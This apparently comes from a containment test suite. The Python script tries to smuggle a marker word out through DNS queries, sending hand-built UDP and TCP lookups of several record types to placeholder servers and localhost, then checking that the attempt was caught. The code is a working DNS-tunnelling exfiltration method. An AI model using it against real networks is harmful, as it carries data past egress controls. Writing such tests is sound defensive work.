# Sends a message out in names that it asks the DNS for, by UDP and TCP, at several servers, by several types.
# none: succeeds; the host looks at what the DNS outside was asked for
import socket
import struct

import attack

SERVERS = ["203.0.113.53", "127.0.0.1", "203.0.113.10"]
NAMES = ["tunnelled-word.other.example", "tunnelled-word.good.example", "tunnelled-word"]
for server in SERVERS:
    for name in NAMES:
        for kind in (1, 16, 10, 28, 5, 255):
            labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
            query = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)
            try:
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
                    udp.settimeout(0.2)
                    udp.sendto(query, (server, 53))
                    udp.recv(512)
            except OSError:
                pass
        try:
            with socket.create_connection((server, 53), 0.5) as tcp:
                tcp.sendall(struct.pack("!H", len(query)) + query)
                tcp.recv(512)
        except OSError:
            pass
        try:
            socket.getaddrinfo(name, 80)
        except OSError:
            pass
print("asked")
attack.held()
